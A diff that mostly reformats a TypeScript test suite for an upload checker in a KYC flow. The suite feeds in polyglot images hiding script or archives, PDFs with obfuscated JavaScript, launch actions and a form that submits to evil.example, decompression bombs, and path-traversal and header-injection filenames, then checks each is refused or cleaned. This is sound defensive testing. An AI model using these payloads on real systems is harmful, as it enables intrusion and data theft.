@@ -11,27 +11,40 @@ const judged = async (bytes: Buffer, name = 'paper.pdf') => {
   return checked.ok ? checked.value.mediaType : checked.error.code
 }
 
-const drawnPdf = (): Promise<Buffer> => new Promise((resolve, reject) => {
-  const document = new PdfDocument({ pdfVersion: '1.7' })
-  const parts: Buffer[] = []
-  document.on('data', (part: Buffer) => parts.push(part)).on('end', () => resolve(Buffer.concat(parts))).on('error', reject)
-  document.text('Clinical establishment registration 1234').link(10, 10, 100, 20, 'https://example.com')
-  document.end()
-})
+const drawnPdf = (): Promise<Buffer> =>
+  new Promise((resolve, reject) => {
+    const document = new PdfDocument({ pdfVersion: '1.7' })
+    const parts: Buffer[] = []
+    document
+      .on('data', (part: Buffer) => parts.push(part))
+      .on('end', () => resolve(Buffer.concat(parts)))
+      .on('error', reject)
+    document
+      .text('Clinical establishment registration 1234')
+      .link(10, 10, 100, 20, 'https://example.com')
+    document.end()
+  })
 
 describe('content of uploads', () => {
   it('KYC-04 lets papers and photos through', async () => {
     expect(await judged(paperPdf())).toBe('application/pdf')
     expect(await judged(await drawnPdf())).toBe('application/pdf')
-    expect(await judged(paperPdf('', [packedObjects('<< /Type /Annot /Subtype /Link >>')]))).toBe('application/pdf')
-    expect(await judged(paperPdf('/AcroForm << /Fields [] /SigFlags 3 >> '))).toBe('application/pdf')
+    expect(await judged(paperPdf('', [packedObjects('<< /Type /Annot /Subtype /Link >>')]))).toBe(
+      'application/pdf',
+    )
+    expect(await judged(paperPdf('/AcroForm << /Fields [] /SigFlags 3 >> '))).toBe(
+      'application/pdf',
+    )
     expect(await judged(await photo('jpeg'))).toBe('image/jpeg')
     expect(await judged(await photo('png'))).toBe('image/png')
   })
 
   it.each([
     ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
-    ['an SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
+    [
+      'an SVG',
+      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    ],
     ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 1)])],
     ['a ZIP', Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(200)])],
     ['a GIF', Buffer.from('GIF89a\u0001\u0000\u0001\u0000', 'latin1')],
@@ -46,11 +59,17 @@ describe('content of uploads', () => {
     expect(await judged(paperPdf().subarray(0, 200))).toBe('file_damaged')
     expect(await judged((await photo('jpeg')).subarray(0, 300))).toBe('file_damaged')
     expect(await judged((await photo('png')).subarray(0, 120))).toBe('file_damaged')
-    expect(await judged(Buffer.concat([paperPdf(), Buffer.alloc(5 * 1024 * 1024)]))).toBe('file_too_large')
+    expect(await judged(Buffer.concat([paperPdf(), Buffer.alloc(5 * 1024 * 1024)]))).toBe(
+      'file_too_large',
+    )
   })
 
   it('KYC-04 refuses a small file that unpacks to a huge picture', async () => {
-    const bomb = await sharp({ create: { width: 8000, height: 8000, channels: 3, background: 'white' } }).png({ compressionLevel: 9 }).toBuffer()
+    const bomb = await sharp({
+      create: { width: 8000, height: 8000, channels: 3, background: 'white' },
+    })
+      .png({ compressionLevel: 9 })
+      .toBuffer()
     expect(bomb.length).toBeLessThan(5 * 1024 * 1024)
     expect(await judged(bomb)).toBe('file_too_large')
   })
@@ -68,14 +87,21 @@ describe('content of uploads', () => {
       const checked = await checkContent({ name: 'photo.jpg', bytes: polyglot })
       if (!checked.ok) throw new Error(checked.error.code)
       const drawn = checked.value.bytes.toString('latin1')
-      for (const trace of [hidden, '%PDF', 'SecretCamera', 'Asha Rao']) expect(drawn).not.toContain(trace)
+      for (const trace of [hidden, '%PDF', 'SecretCamera', 'Asha Rao'])
+        expect(drawn).not.toContain(trace)
       const { exif, width } = await sharp(checked.value.bytes).metadata()
       expect({ exif, width }).toEqual({ exif: undefined, width: 400 })
     }
   })
 
   const page = Buffer.from('<!doctype html><html><body><script>steal()</script>')
-  const archive = Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), Buffer.from('steal.exe'), Buffer.alloc(30, 7), Buffer.from([0x50, 0x4b, 5, 6]), Buffer.alloc(18)])
+  const archive = Buffer.concat([
+    Buffer.from([0x50, 0x4b, 3, 4]),
+    Buffer.from('steal.exe'),
+    Buffer.alloc(30, 7),
+    Buffer.from([0x50, 0x4b, 5, 6]),
+    Buffer.alloc(18),
+  ])
   /** A chunk with a text, right behind the head of a PNG. */
   const inPng = (png: Buffer, text: Buffer) => {
     const body = Buffer.concat([Buffer.from('tEXtComment\0'), text])
@@ -88,11 +114,19 @@ describe('content of uploads', () => {
   const inJpeg = (jpeg: Buffer, text: Buffer) => {
     const length = Buffer.alloc(2)
     length.writeUInt16BE(text.length + 2)
-    return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, text, jpeg.subarray(2)])
+    return Buffer.concat([
+      jpeg.subarray(0, 2),
+      Buffer.from([0xff, 0xfe]),
+      length,
+      text,
+      jpeg.subarray(2),
+    ])
   }
   it.each([
-    ['a PNG that is a page too', async () => inPng(await photo('png'), page)], ['a PNG with a page behind it', async () => Buffer.concat([await photo('png'), page])],
-    ['a JPEG that is a page too', async () => inJpeg(await photo('jpeg'), page)], ['a JPEG that is an archive too', async () => Buffer.concat([await photo('jpeg'), archive])],
+    ['a PNG that is a page too', async () => inPng(await photo('png'), page)],
+    ['a PNG with a page behind it', async () => Buffer.concat([await photo('png'), page])],
+    ['a JPEG that is a page too', async () => inJpeg(await photo('jpeg'), page)],
+    ['a JPEG that is an archive too', async () => Buffer.concat([await photo('jpeg'), archive])],
     ['a JPEG with an archive in a comment', async () => inJpeg(await photo('jpeg'), archive)],
   ])('KYC-04 keeps of %s the picture only', async (_, polyglot) => {
     const bytes = await polyglot()
@@ -100,26 +134,49 @@ describe('content of uploads', () => {
     const checked = await checkContent({ name: 'photo.html', bytes })
     if (!checked.ok) throw new Error(checked.error.code)
     expect(checked.value.name).toMatch(/^photo\.(jpg|png)$/)
-    for (const trace of ['steal', '<script', '<html', 'PK\u0003\u0004', 'PK\u0005\u0006']) expect(checked.value.bytes.includes(trace), trace).toBe(false)
+    for (const trace of ['steal', '<script', '<html', 'PK\u0003\u0004', 'PK\u0005\u0006'])
+      expect(checked.value.bytes.includes(trace), trace).toBe(false)
     expect((await sharp(checked.value.bytes).metadata()).width).toBe(400)
   })
 
   it('KYC-04 refuses a PDF that begins or ends as something else', async () => {
-    expect(await judged(Buffer.concat([Buffer.from('<script>x</script>'), paperPdf()]))).toBe('file_type_refused')
-    expect(await judged(Buffer.concat([paperPdf(), Buffer.from('<html><script>x</script>')]))).toBe('file_damaged')
-    expect(await judged(Buffer.concat([paperPdf(), Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(100, 7)]))).toBe('file_damaged')
+    expect(await judged(Buffer.concat([Buffer.from('<script>x</script>'), paperPdf()]))).toBe(
+      'file_type_refused',
+    )
+    expect(await judged(Buffer.concat([paperPdf(), Buffer.from('<html><script>x</script>')]))).toBe(
+      'file_damaged',
+    )
+    expect(
+      await judged(
+        Buffer.concat([paperPdf(), Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(100, 7)]),
+      ),
+    ).toBe('file_damaged')
   })
 
   const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
   it.each([
     ['a script', paperPdf('/OpenAction 5 0 R ', [script])],
-    ['a script with a spelled-out name', paperPdf('/OpenAction 5 0 R ', ['<< /S /J#61v#61Script /#4A#53 (x) >>'])],
+    [
+      'a script with a spelled-out name',
+      paperPdf('/OpenAction 5 0 R ', ['<< /S /J#61v#61Script /#4A#53 (x) >>']),
+    ],
     ['a script in packed objects', paperPdf('/OpenAction 10 0 R ', [packedObjects(script)])],
-    ['a spelled-out script in packed objects', paperPdf('/OpenAction 10 0 R ', [packedObjects('<< /S /Java#53cript /J#53 (x) >>')])],
+    [
+      'a spelled-out script in packed objects',
+      paperPdf('/OpenAction 10 0 R ', [packedObjects('<< /S /Java#53cript /J#53 (x) >>')]),
+    ],
     ['a short script name alone', paperPdf('/AA << /O << /JS (x) >> >> ')],
-    ['a file inside', paperPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ', ['<< /Type /Filespec /F (a.exe) >>'])],
+    [
+      'a file inside',
+      paperPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ', [
+        '<< /Type /Filespec /F (a.exe) >>',
+      ]),
+    ],
     ['a launch action', paperPdf('/OpenAction << /S /Launch /F (cmd.exe) >> ')],
-    ['a form that sends itself', paperPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >> ')],
+    [
+      'a form that sends itself',
+      paperPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >> '),
+    ],
     ['an XFA form', paperPdf('/AcroForm << /XFA 5 0 R >> ')],
     ['a film', paperPdf('/X << /Subtype /RichMedia >> ')],
     ['a lock', paperPdf('', [], '/Encrypt 9 0 R ')],
@@ -128,37 +185,77 @@ describe('content of uploads', () => {
   })
 
   it('KYC-04 refuses a PDF whose packed objects can’t be read', async () => {
-    const garbled = Buffer.from('<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length 8 >>\nstream\nnotzlib!\nendstream')
+    const garbled = Buffer.from(
+      '<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length 8 >>\nstream\nnotzlib!\nendstream',
+    )
     expect(await judged(paperPdf('', [garbled]))).toBe('file_damaged')
-    expect(await judged(paperPdf('', [packedObjects('<< >>', '/DecodeParms << /Predictor 12 >> ')]))).toBe('file_damaged')
+    expect(
+      await judged(paperPdf('', [packedObjects('<< >>', '/DecodeParms << /Predictor 12 >> ')])),
+    ).toBe('file_damaged')
     // What a filter is told from elsewhere turns the very same bytes into other objects; of two filters a reader takes either.
-    for (const dictionary of ['/DecodeParms 9 0 R ', '/DP 9 0 R ', '/DecodeParms << /Predictor 1 0 R >> ', '/Decode#50arms 9 0 R /X ( obj) ', '/Filter /ASCIIHexDecode ']) {
+    for (const dictionary of [
+      '/DecodeParms 9 0 R ',
+      '/DP 9 0 R ',
+      '/DecodeParms << /Predictor 1 0 R >> ',
+      '/Decode#50arms 9 0 R /X ( obj) ',
+      '/Filter /ASCIIHexDecode ',
+    ]) {
       expect(await judged(paperPdf('', [packedObjects('<< >>', dictionary)]))).toBe('file_damaged')
     }
-    expect(await judged(paperPdf('', ['<< /Type /ObjStm /N 1 /Filter /LZWDecode >>\nstream\nxx\nendstream']))).toBe('file_damaged')
+    expect(
+      await judged(
+        paperPdf('', ['<< /Type /ObjStm /N 1 /Filter /LZWDecode >>\nstream\nxx\nendstream']),
+      ),
+    ).toBe('file_damaged')
     // Named as packed objects, but no stream that could be looked into.
     expect(await judged(paperPdf('', ['<< /Type /Obj#53tm /N 1 >>']))).toBe('file_damaged')
   })
 
   it('KYC-04 takes chance letters in packed pictures for what they are', async () => {
-    const picture = Buffer.concat([Buffer.from('<< /Type /XObject /Subtype /Image /Length 12 >>\nstream\n'), Buffer.from('ab /JS x /AA'), Buffer.from('\nendstream')])
-    expect(await judged(pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', picture]))).toBe('application/pdf')
+    const picture = Buffer.concat([
+      Buffer.from('<< /Type /XObject /Subtype /Image /Length 12 >>\nstream\n'),
+      Buffer.from('ab /JS x /AA'),
+      Buffer.from('\nendstream'),
+    ])
+    expect(
+      await judged(
+        pdfOf([
+          '<< /Type /Catalog /Pages 2 0 R >>',
+          '<< /Type /Pages /Kids [] /Count 0 >>',
+          picture,
+        ]),
+      ),
+    ).toBe('application/pdf')
   })
 })
 
 describe('names of uploads', () => {
   it.each([
-    ['../../etc/passwd', 'passwd.pdf'], ['..\\..\\windows\\system32\\cmd.exe', 'cmd.pdf'], ['C:\\Users\\asha\\PAN card.pdf', 'PAN card.pdf'], ['/etc/shadow', 'shadow.pdf'],
-    ['registration.pdf.exe', 'registration.pdf'], ['a.jpg.pdf', 'a.pdf'], ['.htaccess', 'htaccess.pdf'], ['...', 'document.pdf'], ['', 'document.pdf'], ['paper\u0000.pdf', 'paper.pdf'],
-    ['gpj.\u202Efdp.exe', 'gpj. fdp.pdf'], ['<script>alert(1)</script>.pdf', 'script.pdf'], ['पंजीकरण प्रमाणपत्र.pdf', 'पंजीकरण प्रमाणपत्र.pdf'], ['"; filename="x.html', 'filename x.pdf'],
-    [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(80)}.pdf`], ['line\r\nset-cookie: a=b.pdf', 'a b.pdf'],
+    ['../../etc/passwd', 'passwd.pdf'],
+    ['..\\..\\windows\\system32\\cmd.exe', 'cmd.pdf'],
+    ['C:\\Users\\asha\\PAN card.pdf', 'PAN card.pdf'],
+    ['/etc/shadow', 'shadow.pdf'],
+    ['registration.pdf.exe', 'registration.pdf'],
+    ['a.jpg.pdf', 'a.pdf'],
+    ['.htaccess', 'htaccess.pdf'],
+    ['...', 'document.pdf'],
+    ['', 'document.pdf'],
+    ['paper\u0000.pdf', 'paper.pdf'],
+    ['gpj.\u202Efdp.exe', 'gpj. fdp.pdf'],
+    ['<script>alert(1)</script>.pdf', 'script.pdf'],
+    ['पंजीकरण प्रमाणपत्र.pdf', 'पंजीकरण प्रमाणपत्र.pdf'],
+    ['"; filename="x.html', 'filename x.pdf'],
+    [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(80)}.pdf`],
+    ['line\r\nset-cookie: a=b.pdf', 'a b.pdf'],
   ])('turn %j into %j', (given, clean) => {
     expect(cleanName(given, 'application/pdf')).toBe(clean)
   })
 
   it('stand in a header without breaking it', () => {
     const header = contentDisposition('attachment', 'प्रमाणपत्र "1".pdf')
-    expect(header).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%._-]+$/)
+    expect(header).toMatch(
+      /^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%._-]+$/,
+    )
     expect(decodeURIComponent(header.split("''")[1] ?? '')).toBe('प्रमाणपत्र "1".pdf')
   })
 })
